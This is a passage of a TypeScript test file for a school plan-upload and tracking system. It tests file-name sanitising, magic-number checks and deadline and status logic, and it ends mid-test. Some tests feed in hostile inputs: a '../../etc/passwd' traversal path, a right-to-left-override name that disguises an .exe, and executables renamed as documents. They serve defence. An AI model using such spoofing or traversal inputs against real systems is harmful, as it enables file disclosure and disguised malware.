import { describe, expect, it } from 'vitest';
import { csvCell } from '../../functions/shared/csv.js';
import {
  acceptedKey,
  allowedExt,
  checkFile,
  DIRECT_GROUP_NAME,
  type DocStatus,
  filterRows,
  foldAccepted,
  foldRejected,
  grandTotal,
  type GroupTotal,
  inAudience,
  incomingKey,
  inScope,
  isLate,
  type OrgStatus,
  receiptNoOf,
  REJECT_MESSAGES,
  sanitiseFileName,
  scopeOf,
  remindedText,
  statusCsv,
  summarise,
  timelinessText,
  withAttempts,
} from '../../functions/plans/rules.js';
import { Campaign } from '../../schemas/campaigns.js';
import { Org, routeKeyOf } from '../../schemas/orgs.js';
import { MAX_UPLOAD_BYTES, type OrgSummary, type Upload } from '../../schemas/plans.js';
import { cfbFile, elfExecutable, minimalDocx, minimalPdf, minimalXlsx, peExecutable, plainZip } from '../fixtures/files.js';
import { allOrgs, campaign, campaignInput, orgs, summariesOf, upload, uploadId } from './samples.js';

/** Route keys as the registry computes them (their spelling is not this file's business). */
const G = { dh: routeKeyOf(orgs.dh), xh: routeKeyOf(orgs.xh), direct: routeKeyOf(orgs.direct1), city: routeKeyOf(orgs.bureau) };

/** True if the string holds a lone UTF-16 surrogate (a character cut in half). */
const hasLoneSurrogate = (s: string) => /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(s);

describe('keys', () => {
  it('puts incoming and accepted objects under campaign/org/document/uploadId.ext', () => {
    const u = upload({ ext: 'docx' });
    expect(incomingKey(u)).toBe('incoming/2019-plans/dh-school-1/service-plan/0123456789abcdef0123456789abcdef.docx');
    expect(acceptedKey(u)).toBe('accepted/2019-plans/dh-school-1/service-plan/0123456789abcdef0123456789abcdef.docx');
  });
});

describe('allowedExt', () => {
  it.each([
    ['方案.pdf', 'pdf'],
    ['PLAN.PDF', 'pdf'],
    ['Plan.Docx', 'docx'],
    ['old.DOC', 'doc'],
    ['a.exe.pdf', 'pdf'],
    ['  spaced.pdf  ', 'pdf'],
  ])('%j → %s', (name, ext) => {
    expect(allowedExt(name)).toBe(ext);
  });

  it.each([['plan'], ['pdf'], ['plan.'], ['a.pdf.exe'], ['plan.txt'], ['plan.pdfx'], ['plan.docm'], ['']])('%j is not allowed', (name) => {
    expect(allowedExt(name)).toBeUndefined();
  });
});

describe('sanitiseFileName', () => {
  it('keeps only the last path segment (Windows and POSIX separators)', () => {
    expect(sanitiseFileName('C:\\fakepath\\东湖区方案.pdf')).toBe('东湖区方案.pdf');
    expect(sanitiseFileName('../../etc/passwd')).toBe('passwd');
    expect(sanitiseFileName('dir/sub\\x.docx')).toBe('x.docx');
  });

  it('removes control characters, bidi overrides, zero-width characters and characters Windows forbids', () => {
    expect(sanitiseFileName('a\u0000b\u0007c\u001f\u007f.pdf')).toBe('abc.pdf');
    // "invoice‮fdp.exe" would display as "invoiceexe.pdf"
    expect(sanitiseFileName('invoice\u202efdp.exe')).toBe('invoicefdp.exe');
    expect(sanitiseFileName('\u2066x\u2069\u200by\u200f\u202a.docx')).toBe('xy.docx');
    expect(sanitiseFileName('<b>"方案"|?*:.pdf')).toBe('b方案.pdf');
    expect(sanitiseFileName('line\r\nbreak.pdf')).toBe('linebreak.pdf');
  });

  it('falls back to "file" when nothing is left', () => {
    expect(sanitiseFileName('')).toBe('file');
    expect(sanitiseFileName('   ')).toBe('file');
    expect(sanitiseFileName('folder/')).toBe('file');
    expect(sanitiseFileName('\u202e\u0000')).toBe('file');
  });

  it('keeps Chinese names untouched', () => {
    const name = '南昌市东湖区第一小学心理危机管理工作方案（2019年修订）.docx';
    expect(sanitiseFileName(name)).toBe(name);
  });

  it('cuts long names to 120 characters and keeps the extension', () => {
    const out = sanitiseFileName(`${'a'.repeat(200)}.docx`);
    expect(out).toBe(`${'a'.repeat(115)}.docx`);
    expect(out).toHaveLength(120);
    const cjk = sanitiseFileName(`${'心理健康'.repeat(40)}.pdf`);
    expect(cjk).toBe(`${'心理健康'.repeat(40).slice(0, 116)}.pdf`);
    expect(cjk).toHaveLength(120);
    expect(sanitiseFileName(`${'b'.repeat(120)}`)).toBe('b'.repeat(120));
  });

  it('never cuts a character in half when shortening a long name', () => {
    // 1 + 2×100 UTF-16 units: the 116-unit cut falls inside an emoji.
    const out = sanitiseFileName(`a${'😀'.repeat(100)}.pdf`);
    expect(out.endsWith('.pdf')).toBe(true);
    expect(hasLoneSurrogate(out)).toBe(false);
  });
});

describe('checkFile (real bytes, magic numbers)', () => {
  it('accepts a minimal valid PDF as pdf', async () => {
    expect(await checkFile(minimalPdf(), 'pdf')).toBeUndefined();
  });

  it('the sample files are what they claim to be (file-type, the magic-number library, agrees)', async () => {
    const { fileTypeFromBuffer } = await import('file-type');
    expect((await fileTypeFromBuffer(minimalPdf()))?.ext).toBe('pdf');
    expect(await fileTypeFromBuffer(minimalDocx())).toEqual({
      ext: 'docx',
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    });
    expect((await fileTypeFromBuffer(minimalXlsx()))?.ext).toBe('xlsx');
    expect((await fileTypeFromBuffer(plainZip()))?.ext).toBe('zip');
    expect((await fileTypeFromBuffer(cfbFile()))?.ext).toBe('cfb');
    expect((await fileTypeFromBuffer(elfExecutable()))?.ext).toBe('elf');
    expect((await fileTypeFromBuffer(peExecutable()))?.ext).toBe('exe');
  });

  it('accepts a real DOCX as docx', async () => {
    expect(await checkFile(minimalDocx(), 'docx')).toBeUndefined();
  });

  it('does not let a plain zip or an Excel .xlsx pass as docx', async () => {
    expect(await checkFile(plainZip(), 'docx')).toBe('TYPE_MISMATCH');
    expect(await checkFile(minimalXlsx(), 'docx')).toBe('TYPE_MISMATCH');
  });

  it('accepts an OLE2/CFB Word container as doc, and not as docx or pdf', async () => {
    expect(await checkFile(cfbFile(), 'doc')).toBeUndefined();
    expect(await checkFile(cfbFile(), 'docx')).toBe('TYPE_MISMATCH');
    expect(await checkFile(cfbFile(), 'pdf')).toBe('TYPE_MISMATCH');
  });

  it('does not let another OLE2 file (an .xls workbook) pass as doc', async () => {
    expect(await checkFile(cfbFile('Workbook'), 'doc')).toBe('TYPE_MISMATCH');
  });

  it('rejects a truncated zip (local header only) as docx', async () => {
    expect(await checkFile(minimalDocx().slice(0, 200), 'docx')).toBe('TYPE_MISMATCH');
  });

  it.each([
    ['ELF', elfExecutable],
    ['PE (MZ)', peExecutable],
  ])('rejects a %s executable renamed .pdf/.doc/.docx as TYPE_MISMATCH', async (_n, bytes) => {
    expect(await checkFile(bytes(), 'pdf')).toBe('TYPE_MISMATCH');
    expect(await checkFile(bytes(), 'doc')).toBe('TYPE_MISMATCH');
    expect(await checkFile(bytes(), 'docx')).toBe('TYPE_MISMATCH');
  });

  it('rejects a real file of another allowed type (the declared type must match)', async () => {
    expect(await checkFile(minimalPdf(), 'docx')).toBe('TYPE_MISMATCH');
    expect(await checkFile(minimalDocx(), 'pdf')).toBe('TYPE_MISMATCH');
    expect(await checkFile(minimalDocx(), 'doc')).toBe('TYPE_MISMATCH');
  });

  it('rejects plain text and unknown bytes', async () => {
    expect(await checkFile(new TextEncoder().encode('这是一个文本文件，不是 PDF。'), 'pdf')).toBe('TYPE_MISMATCH');
  });

  it('says EMPTY for zero bytes', async () => {
    expect(await checkFile(new Uint8Array(0), 'pdf')).toBe('EMPTY');
  });

  it('accepts exactly 20 MiB and says TOO_LARGE for one byte more', async () => {
    const pdf = minimalPdf();
    const max = new Uint8Array(MAX_UPLOAD_BYTES);
    max.set(pdf);
    expect(await checkFile(max, 'pdf')).toBeUndefined();
    const over = new Uint8Array(MAX_UPLOAD_BYTES + 1);
    over.set(pdf);
    expect(await checkFile(over, 'pdf')).toBe('TOO_LARGE');
  });

  it('has a Chinese message for every reason', () => {
    expect(Object.keys(REJECT_MESSAGES).sort()).toEqual(['BAD_KEY', 'EMPTY', 'EXPIRED', 'MISSING', 'REVOKED', 'TOO_LARGE', 'TYPE_MISMATCH']);
    for (const m of Object.values(REJECT_MESSAGES)) expect(m).toMatch(/[\u4e00-\u9fff]/);
    expect(REJECT_MESSAGES.TOO_LARGE).toContain('20 MB');
  });
});

describe('isLate', () => {
  const deadline = '2019-06-30T23:59:59.999+08:00';
  it('is on time at the exact deadline instant and late 1 ms later', () => {
    expect(isLate('2019-06-30T23:59:59.999+08:00', deadline)).toBe(false);
    expect(isLate('2019-06-30T15:59:59.999Z', deadline)).toBe(false);
    expect(isLate('2019-06-30T16:00:00.000Z', deadline)).toBe(true);
    expect(isLate('2019-07-01T00:00:00.000+08:00', deadline)).toBe(true);
  });
  it('compares against the campaign deadline as stored (UTC)', () => {
    expect(campaign.deadline).toBe('2019-06-30T15:59:59.999Z');
    expect(isLate('2019-06-30T15:59:59.999Z', campaign.deadline)).toBe(false);
    expect(isLate('2019-06-30T16:00:00.000Z', campaign.deadline)).toBe(true);
    expect(isLate('2019-06-01T00:00:00.000Z', campaign.deadline)).toBe(false);
  });
});

describe('inAudience', () => {
  it('audience "all" is every District office and school, not the Bureau or the Centre', () => {
    expect(inAudience(campaign, orgs.dh)).toBe(true);
    expect(inAudience(campaign, orgs.dhSchool1)).toBe(true);
    expect(inAudience(campaign, orgs.direct1)).toBe(true);
    expect(inAudience(campaign, orgs.bureau)).toBe(false);
    expect(inAudience(campaign, orgs.centre)).toBe(false);
  });
  it('a listed audience is exactly the listed orgs', () => {
    const c = Campaign.parse({ ...campaignInput, audience: { orgIds: ['dh-school-2', 'direct-1'] } });
    expect(allOrgs.filter((o) => inAudience(c, o)).map((o) => o.id)).toEqual(['dh-school-2', 'direct-1']);
  });
});


// ---------------------------------------------------------------------------------------------
// The status item: folding accepted and rejected attempts (what the validator writes)

const SHA = 'ab'.repeat(32);
const acc = (n: number, orgId: string, document: string, receivedAt: string, late: boolean, originalName = `v${n}.pdf`, size = 100 + n): Upload =>
  upload({
    uploadId: uploadId(n),
    orgId,
    document,
    requestedAt: new Date(Date.parse(receivedAt) - 5000).toISOString(),
    state: 'accepted',
    receivedAt,
    late,
    originalName,
    size,
    sha256: SHA,
    acceptedKey: `accepted/2019-plans/${orgId}/${document}/${uploadId(n)}.pdf`,
  });
const rej = (n: number, orgId: string, document: string, receivedAt: string, reason: 'TYPE_MISMATCH' | 'EMPTY', originalName: string): Upload =>
  upload({ uploadId: uploadId(n), orgId, document, requestedAt: receivedAt, state: 'rejected', receivedAt, reason, originalName });
const pend = (n: number, orgId: string, document: string, requestedAt: string): Upload => upload({ uploadId: uploadId(n), orgId, document, requestedAt, state: 'pending' });

/** 30 June 23:59 and 1 July 00:00 / 00:01, Beijing time. */
const AT_2359 = '2019-06-30T15:59:00.000Z';
const AT_0000 = '2019-06-30T16:00:00.000Z';
const AT_0001 = '2019-06-30T16:01:00.000Z';

describe('foldAccepted', () => {
  it('starts the status item at rev 1 with version 1; first and last are that version', () => {
    const u = acc(1, 'dh-school-1', 'service-plan', AT_2359, false, '方案.pdf', 1234);
    const r = foldAccepted(undefined, u);
    expect(r.version).toBe(1);
    expect(r.next).toEqual({
      campaignId: '2019-plans',
      orgId: 'dh-school-1',
      rev: 1,
      docs: {
        'service-plan': {
          ids: [uploadId(1)],
          first: { uploadId: uploadId(1), at: AT_2359, late: false },
          last: { uploadId: uploadId(1), version: 1, at: AT_2359, late: false, name: '方案.pdf', size: 1234, sha256: SHA, ext: 'pdf' },
          lateVersions: 0,
        },
      },
    } satisfies OrgSummary);
  });

  it('is idempotent: an attempt already folded keeps its number and writes nothing', () => {
    const one = foldAccepted(undefined, acc(1, 'dh-school-1', 'service-plan', AT_2359, false)).next as OrgSummary;
    const two = foldAccepted(one, acc(2, 'dh-school-1', 'service-plan', AT_0000, true)).next as OrgSummary;
    expect(foldAccepted(two, acc(1, 'dh-school-1', 'service-plan', AT_2359, false))).toEqual({ version: 1 });
    expect(foldAccepted(two, acc(2, 'dh-school-1', 'service-plan', AT_0000, true))).toEqual({ version: 2 });
  });

  it('numbers versions in fold order with no gap; the first version by arrival decides timeliness, the correction is flagged on its own', () => {
    const one = foldAccepted(undefined, acc(1, 'dh-school-1', 'service-plan', AT_2359, false));
    const two = foldAccepted(one.next, acc(2, 'dh-school-1', 'service-plan', AT_0000, true, '修订.pdf'));
    expect([one.version, two.version]).toEqual([1, 2]);
    const d = two.next?.docs['service-plan'];
    expect(d).toMatchObject({
      ids: [uploadId(1), uploadId(2)],
      first: { uploadId: uploadId(1), at: AT_2359, late: false },
      last: { uploadId: uploadId(2), version: 2, at: AT_0000, late: true, name: '修订.pdf' },
      lateVersions: 1,
    });
    expect(two.next?.rev).toBe(2);
    expect(timelinessText(d as NonNullable<typeof d>)).toBe('按时提交（6月30日 23:59），7月1日 00:00 修改');
  });

  it('when the later upload is folded first (a race between validators), first is still the 23:59 one', () => {
    const later = foldAccepted(undefined, acc(2, 'dh-school-1', 'service-plan', AT_0000, true));
    const earlier = foldAccepted(later.next, acc(1, 'dh-school-1', 'service-plan', AT_2359, false));
    expect([later.version, earlier.version]).toEqual([1, 2]);
    const d = earlier.next?.docs['service-plan'];
    expect(d?.first).toEqual({ uploadId: uploadId(1), at: AT_2359, late: false });
    expect(d?.last).toMatchObject({ uploadId: uploadId(2), version: 1, at: AT_0000, late: true });
    expect(d?.lateVersions).toBe(1);
    expect(timelinessText(d as NonNullable<typeof d>)).toBe('按时提交（6月30日 23:59），7月1日 00:00 修改');
  });

  it('keeps documents apart and does not change the item it was given', () => {
    const one = foldAccepted(undefined, acc(1, 'dh-school-1', 'service-plan', AT_2359, false)).next as OrgSummary;
    const frozen = structuredClone(one);
    const two = foldAccepted(one, acc(2, 'dh-school-1', 'crisis-plan', AT_0001, true));
    expect(one).toEqual(frozen);
    expect(two.version).toBe(1);
    expect(Object.keys(two.next?.docs ?? {}).sort()).toEqual(['crisis-plan', 'service-plan']);
    expect(two.next?.docs['crisis-plan']).toMatchObject({ ids: [uploadId(2)], first: { late: true }, lateVersions: 1 });
    expect(two.next?.docs['service-plan']).toEqual(one.docs['service-plan']);
  });

  it('clears a rejection older than the new version and keeps a newer one', () => {
    const rejected = foldRejected(undefined, rej(1, 'dh-school-1', 'service-plan', '2019-06-10T00:00:00.000Z', 'EMPTY', 'a.pdf'));
    const cleared = foldAccepted(rejected, acc(2, 'dh-school-1', 'service-plan', '2019-06-11T00:00:00.000Z', false));
    expect(cleared.next?.docs['service-plan']?.rejected).toBeUndefined();
    const newer = foldRejected(undefined, rej(3, 'dh-school-1', 'service-plan', '2019-06-12T00:00:00.000Z', 'EMPTY', 'b.pdf'));
    const kept = foldAccepted(newer, acc(4, 'dh-school-1', 'service-plan', '2019-06-11T00:00:00.000Z', false));
    expect(kept.next?.docs['service-plan']?.rejected).toMatchObject({ uploadId: uploadId(3), reason: 'EMPTY', name: 'b.pdf' });
  });
});

describe('foldRejected', () => {
  it('records the rejection while it is the newest thing that happened to the document', () => {
    const s = foldRejected(undefined, rej(1, 'dh-school-1', 'crisis-plan', '2019-06-10T00:00:00.000Z', 'TYPE_MISMATCH', 'setup.pdf'));
    expect(s).toEqual({
      campaignId: '2019-plans',
      orgId: 'dh-school-1',
      rev: 1,
      docs: { 'crisis-plan': { ids: [], lateVersions: 0, rejected: { uploadId: uploadId(1), at: '2019-06-10T00:00:00.000Z', reason: 'TYPE_MISMATCH', name: 'setup.pdf' } } },
    });
  });

  it('writes nothing for the same rejection again, an older rejection, or one older than the last accepted version', () => {
    const s = foldRejected(undefined, rej(2, 'dh-school-1', 'crisis-plan', '2019-06-10T00:00:00.000Z', 'EMPTY', 'b.pdf')) as OrgSummary;
    expect(foldRejected(s, rej(2, 'dh-school-1', 'crisis-plan', '2019-06-10T00:00:00.000Z', 'EMPTY', 'b.pdf'))).toBeUndefined();
    expect(foldRejected(s, rej(1, 'dh-school-1', 'crisis-plan', '2019-06-09T00:00:00.000Z', 'EMPTY', 'a.pdf'))).toBeUndefined();
    const accepted = foldAccepted(undefined, acc(3, 'dh-school-1', 'crisis-plan', '2019-06-20T00:00:00.000Z', false)).next;
    expect(foldRejected(accepted, rej(4, 'dh-school-1', 'crisis-plan', '2019-06-19T00:00:00.000Z', 'EMPTY', 'c.pdf'))).toBeUndefined();
    const newer = foldRejected(accepted, rej(5, 'dh-school-1', 'crisis-plan', '2019-06-21T00:00:00.000Z', 'EMPTY', 'd.pdf'));
    expect(newer?.rev).toBe(2);
    expect(newer?.docs['crisis-plan']).toMatchObject({ ids: [uploadId(3)], rejected: { uploadId: uploadId(5), name: 'd.pdf' } });
  });
});

describe('timelinessText', () => {
  it('says on time or late by the first version, and when the latest correction came', () => {
    expect(timelinessText({})).toBeUndefined();
    expect(timelinessText({ first: { uploadId: 'a', at: AT_2359, late: false } })).toBe('按时提交（6月30日 23:59）');
    expect(timelinessText({ first: { uploadId: 'a', at: AT_0000, late: true } })).toBe('逾期提交（7月1日 00:00）');
    const last = { uploadId: 'b', version: 2, at: AT_0001, late: true, name: 'x', size: 1, sha256: SHA, ext: 'pdf' as const };
    expect(timelinessText({ first: { uploadId: 'a', at: AT_2359, late: false }, last })).toBe('按时提交（6月30日 23:59），7月1日 00:01 修改');
    expect(timelinessText({ first: { uploadId: 'b', at: AT_0001, late: true }, last })).toBe('逾期提交（7月1日 00:01）');
  });
});

describe('receiptNoOf', () => {
  it('is HJ, the Beijing day of arrival and the first 10 characters of the attempt id in capitals', () => {
    expect(receiptNoOf({ uploadId: 'abcdef0123456789abcdef0123456789', receivedAt: AT_2359 })).toBe('HJ20190630-ABCDEF0123');
    expect(receiptNoOf({ uploadId: 'abcdef0123456789abcdef0123456789', receivedAt: AT_0000 })).toBe('HJ20190701-ABCDEF0123');
  });
});

describe('scopeOf / inScope (decided on the target’s current registry entry)', () => {
  const moved = Org.parse({ ...orgs.dhSchool1, districtId: 'xh' });
  it('the city sees everyone; a District itself and its schools; a school itself', () => {
    const city = scopeOf('city', orgs.centre);
    expect(allOrgs.every((o) => inScope(city, o))).toBe(true);
    const dh = scopeOf('district', orgs.dh);
    expect(allOrgs.filter((o) => inScope(dh, o)).map((o) => o.id)).toEqual(['dh', 'dh-school-1', 'dh-school-2']);
    const school = scopeOf('school', orgs.dhSchool1);
    expect(allOrgs.filter((o) => inScope(school, o)).map((o) => o.id)).toEqual(['dh-school-1']);
  });
  it('a school that moved is in its new District’s scope only', () => {
    expect(inScope(scopeOf('district', orgs.dh), moved)).toBe(false);
    expect(inScope(scopeOf('district', orgs.xh), moved)).toBe(true);
    expect(inScope(scopeOf('school', orgs.dhSchool1), moved)).toBe(true);
  });
  it('a District does not see Direct schools, nor a District with a longer id that starts with its own', () => {
    const other = Org.parse({ ...orgs.dh, id: 'dh-2', name: '东湖二区教科体局' });
    const itsSchool = Org.parse({ ...orgs.dhSchool2, id: 'dh-2-school', districtId: 'dh-2' });
    const dh = scopeOf('district', orgs.dh);
    expect([orgs.direct1, other, itsSchool].map((o) => inScope(dh, o))).toEqual([false, false, false]);
  });
});

// ---------------------------------------------------------------------------------------------
// The roll-up of status items into rows and totals

describe('summarise', () => {
  const uploads = [
    // dh-school-1: two versions of the service plan, the correction after the deadline (the document stays on time);
    // the crisis plan rejected once, then accepted (the old rejection is not shown).
    acc(1, 'dh-school-1', 'service-plan', '2019-06-10T02:00:05.000Z', false, 'v1.pdf', 1000),
    acc(2, 'dh-school-1', 'service-plan', '2019-06-30T16:10:03.000Z', true, 'v2.pdf', 2000),
    rej(3, 'dh-school-1', 'crisis-plan', '2019-06-11T00:00:00.000Z', 'TYPE_MISMATCH', 'virus.pdf'),
    acc(4, 'dh-school-1', 'crisis-plan', '2019-06-12T00:00:00.000Z', false, 'crisis.docx', 3000),
    // dh-school-2: accepted, then a newer rejected upload (shown); the crisis plan never folded (pending only).
    acc(5, 'dh-school-2', 'service-plan', '2019-06-20T00:00:00.000Z', false, 'a.pdf', 10),
    rej(6, 'dh-school-2', 'service-plan', '2019-06-21T00:00:00.000Z', 'EMPTY', 'b.pdf'),
    pend(7, 'dh-school-2', 'crisis-plan', '2019-06-22T00:00:00.000Z'),
    // xh-school-1 complete and on time.
    acc(10, 'xh-school-1', 'service-plan', '2019-06-15T00:00:00.000Z', false, 'x1.pdf', 11),
    acc(11, 'xh-school-1', 'crisis-plan', '2019-06-15T00:00:00.000Z', false, 'x2.pdf', 12),
    // direct-1 complete, crisis plan late (its first version arrived after the deadline).
    acc(12, 'direct-1', 'service-plan', '2019-06-29T00:00:00.000Z', false, 'd1.pdf', 13),
    acc(13, 'direct-1', 'crisis-plan', '2019-07-01T00:00:00.000Z', true, 'd2.pdf', 14),
    // the Bureau is not in the audience: its stray status item makes no row.
    acc(14, 'bureau', 'service-plan', '2019-06-15T00:00:00.000Z', false, 'b.pdf', 15),
  ];
  const result = () => summarise(campaign, allOrgs, summariesOf(uploads));

  it('orders rows and totals by District, Direct schools last, the District office first within its group', () => {
    const r = result();
    expect(r.rows.map((row) => [row.group, row.orgId, row.kind])).toEqual([
      [G.dh, 'dh', 'district'],
      [G.dh, 'dh-school-1', 'school'],
      [G.dh, 'dh-school-2', 'school'],
      [G.xh, 'xh', 'district'],
      [G.xh, 'xh-school-1', 'school'],
      [G.direct, 'direct-1', 'school'],
    ]);
    expect(r.totals.map((t) => t.group)).toEqual([G.dh, G.xh, G.direct]);
  });

  it('groups each District office with its own schools', () => {
    const byGroup = (g: string) => result().rows.filter((row) => row.group === g).map((row) => row.orgId).sort();
    expect(byGroup(G.dh)).toEqual(['dh', 'dh-school-1', 'dh-school-2']);
    expect(byGroup(G.xh)).toEqual(['xh', 'xh-school-1']);
    expect(byGroup(G.direct)).toEqual(['direct-1']);
    expect(byGroup(G.city)).toEqual([]);
  });

  it('counts versions, shows first and last, judges timeliness by the first version, hides a rejection older than the accepted version', () => {
    const row = result().rows.find((r) => r.orgId === 'dh-school-1');
    expect(row).toEqual({
      orgId: 'dh-school-1',
      name: '东湖区第一小学',
      kind: 'school',
      group: G.dh,
      directKind: undefined,
      contactName: '张老师',
      contactPhone: undefined,
      bounced: [],
      remindedDays: [],
      remindedTo: [],
      emails: ['zhang@dh1.example.cn'],
      complete: true,
      documents: [
        {
          document: 'service-plan',
          title: '心理服务体系建设工作实施方案',
          state: 'uploaded',
          versions: 2,
          late: false,
          firstAt: '2019-06-10T02:00:05.000Z',
          lastVersion: 2,
          lastUploadId: expect.any(String),
          lastExt: expect.any(String),
          lastUploadAt: '2019-06-30T16:10:03.000Z',
          lastLate: true,
          lastFileName: 'v2.pdf',
          lastSize: 2000,
          lastSha256: SHA,
          lateVersions: 1,
          timeliness: '按时提交（6月10日 10:00），7月1日 00:10 修改',
          rejected: undefined,
          pending: false,
          pendingIds: [],
          reviewState: 'submitted',
          review: undefined,
        },
        {
          document: 'crisis-plan',
          title: '心理危机管理工作方案',
          state: 'uploaded',
          versions: 1,
          late: false,
          firstAt: '2019-06-12T00:00:00.000Z',
          lastVersion: 1,
          lastUploadId: expect.any(String),
          lastExt: expect.any(String),
          lastUploadAt: '2019-06-12T00:00:00.000Z',
          lastLate: false,
          lastFileName: 'crisis.docx',
          lastSize: 3000,
          lastSha256: SHA,
          lateVersions: 0,
          timeliness: '按时提交（6月12日 08:00）',
          rejected: undefined,
          pending: false,
          pendingIds: [],
          reviewState: 'submitted',
          review: undefined,
        },
      ],
    } satisfies OrgStatus);
  });

  it('shows a rejection newer than the accepted version; a document with no status is missing', () => {
    const row = result().rows.find((r) => r.orgId === 'dh-school-2');
    expect(row?.complete).toBe(false);
    expect(row?.documents[0]).toMatchObject({
      state: 'uploaded',
      versions: 1,
      lastFileName: 'a.pdf',
      rejected: { reason: 'EMPTY', message: REJECT_MESSAGES.EMPTY, fileName: 'b.pdf', at: '2019-06-21T00:00:00.000Z' },
    });
    expect(row?.documents[1]).toEqual({
      document: 'crisis-plan',
      title: '心理危机管理工作方案',
      state: 'missing',
      versions: 0,
      late: false,
      firstAt: undefined,
      lastVersion: undefined,
      lastUploadId: undefined,
      lastExt: undefined,
      lastUploadAt: undefined,
      lastLate: undefined,
      lastFileName: undefined,
      lastSize: undefined,
      lastSha256: undefined,
      lateVersions: 0,
      timeliness: undefined,
      rejected: undefined,
      pending: false,
      pendingIds: [],
      reviewState: 'missing',
      review: undefined,
    });
  });

  it('shows a rejection when nothing was ever accepted', () => {
    const r = summarise(campaign, [orgs.xh], summariesOf([rej(21, 'xh', 'crisis-plan', '2019-06-01T00:00:00.000Z', 'TYPE_MISMATCH', 'setup.pdf')]));
    expect(r.rows[0]?.documents[1]).toMatchObject({
      state: 'missing',
      versions: 0,
      rejected: { reason: 'TYPE_MISMATCH', message: REJECT_MESSAGES.TYPE_MISMATCH, fileName: 'setup.pdf', at: '2019-06-01T00:00:00.000Z' },
    });
  });

  it('takes the contact with a phone first, lists every e-mail, and keeps the Direct kind', () => {
    const withPhone = Org.parse({
      ...orgs.direct1,
      contacts: [
        { name: '刘老师', email: 'liu@d1.example.cn' },
        { name: '黄老师', email: 'huang@d1.example.cn', phone: '0791-86000000' },
      ],
    });
    const row = summarise(campaign, [withPhone], []).rows[0];
    expect(row).toMatchObject({ contactName: '黄老师', contactPhone: '0791-86000000', emails: ['liu@d1.example.cn', 'huang@d1.example.cn'], directKind: '局属学校' });
  });

  it('totals per District (office grouped with its schools) and for Direct schools: late by first version, orgs without an e-mail', () => {
    expect(result().totals).toEqual([
      { group: G.dh, name: '东湖区教科体局', orgs: 3, complete: 1, late: 0, noEmail: 0, byDocument: { 'service-plan': 2, 'crisis-plan': 1 } },
      { group: G.xh, name: '西湖区教科体局', orgs: 2, complete: 1, late: 0, noEmail: 1, byDocument: { 'service-plan': 1, 'crisis-plan': 1 } },
      { group: G.direct, name: DIRECT_GROUP_NAME, orgs: 1, complete: 1, late: 1, noEmail: 0, byDocument: { 'service-plan': 1, 'crisis-plan': 1 } },
    ] satisfies GroupTotal[]);
  });

  it('names a group whose District office is not among the rows from `named`', () => {
    const r = summarise(campaign, [orgs.dhSchool1], [], [orgs.dh]);
    expect(r.totals).toEqual([expect.objectContaining({ group: G.dh, name: '东湖区教科体局', orgs: 1 })]);
  });

  it('leaves every org missing when nothing was uploaded', () => {
    const r = summarise(campaign, allOrgs, []);
    expect(r.rows).toHaveLength(6);
    expect(r.rows.every((row) => !row.complete && row.documents.every((d) => d.state === 'missing' && d.versions === 0))).toBe(true);
    expect(r.totals.map((t) => [t.group, t.orgs, t.complete, t.late])).toEqual([
      [G.dh, 3, 0, 0],
      [G.xh, 2, 0, 0],
      [G.direct, 1, 0, 0],
    ]);
  });

  it('a school that moved is grouped under its new District', () => {
    const moved = Org.parse({ ...orgs.dhSchool1, districtId: 'xh' });
    const r = summarise(campaign, [orgs.dh, moved, orgs.xh], summariesOf(uploads));
    expect(r.rows.find((x) => x.orgId === 'dh-school-1')).toMatchObject({ group: G.xh, complete: true });
    expect(r.totals.find((t) => t.group === G.xh)).toMatchObject({ orgs: 2, complete: 1 });
  });
});

describe('grandTotal', () => {
  it('sums the group totals into one 合计 row', () => {
    const t = grandTotal(campaign, summarise(campaign, allOrgs, summariesOf([acc(1, 'dh', 'service-plan', AT_0000, true), acc(2, 'xh-school-1', 'crisis-plan', AT_2359, false)])).totals);
    expect(t).toEqual({ group: '', name: '合计', orgs: 6, complete: 0, late: 1, noEmail: 1, byDocument: { 'service-plan': 1, 'crisis-plan': 1 } });
    expect(grandTotal(campaign, [])).toEqual({ group: '', name: '合计', orgs: 0, complete: 0, late: 0, noEmail: 0, byDocument: { 'service-plan': 0, 'crisis-plan': 0 } });
  });
});

describe('filterRows', () => {
  const rows = summarise(
    campaign,
    allOrgs,
    summariesOf([
      acc(1, 'dh-school-1', 'service-plan', AT_2359, false),
      acc(2, 'dh-school-1', 'crisis-plan', AT_2359, false),
      acc(3, 'xh-school-1', 'service-plan', AT_2359, false),
    ]),
  ).rows;
  const ids = (f: Parameters<typeof filterRows>[1]) => filterRows(rows, f).map((r) => r.orgId);

  it('keeps everything without a filter', () => {
    expect(ids({})).toEqual(rows.map((r) => r.orgId));
    expect(ids({ show: 'all' })).toHaveLength(6);
  });
  it('incomplete only, one group, one document missing', () => {
    expect(ids({ show: 'incomplete' })).toEqual(['dh', 'dh-school-2', 'xh', 'xh-school-1', 'direct-1']);
    expect(ids({ group: G.xh })).toEqual(['xh', 'xh-school-1']);
    expect(ids({ doc: 'service-plan' })).toEqual(['dh', 'dh-school-2', 'xh', 'direct-1']);
    expect(ids({ doc: 'crisis-plan', group: G.xh })).toEqual(['xh', 'xh-school-1']);
    expect(ids({ show: 'incomplete', group: G.dh, doc: 'crisis-plan' })).toEqual(['dh', 'dh-school-2']);
  });
  it('searches names (case-insensitive) and ids', () => {
    expect(ids({ q: '第二' })).toEqual(['dh-school-2']);
    expect(ids({ q: 'DIRECT' })).toEqual(['direct-1']);
    expect(ids({ q: 'xh-school' })).toEqual(['xh-school-1']);
    expect(ids({ q: '没有这个' })).toEqual([]);
  });
});

describe('withAttempts (the own org: pending, history, rejections)', () => {
  const now = new Date('2019-07-02T00:00:00.000Z');
  const minutesBefore = (m: number) => new Date(now.getTime() - m * 60_000).toISOString();
  const base = (kind = 'service-plan'): DocStatus => summarise(campaign, [orgs.dh], []).rows[0]?.documents.find((d) => d.document === kind) as DocStatus;

  it('a fresh pending attempt is pending; one 15 minutes old or more is stale', () => {
    expect(withAttempts(base(), [pend(8, 'dh', 'service-plan', minutesBefore(16)), pend(9, 'dh', 'service-plan', minutesBefore(15))], now)).toMatchObject({
      pending: false,
      pendingIds: [],
    });
    const fresh = pend(20, 'dh', 'service-plan', new Date(now.getTime() - 15 * 60_000 + 1).toISOString());
    expect(withAttempts(base(), [fresh], now)).toMatchObject({ pending: true, pendingIds: [uploadId(20)] });
    // another document's attempt does not count
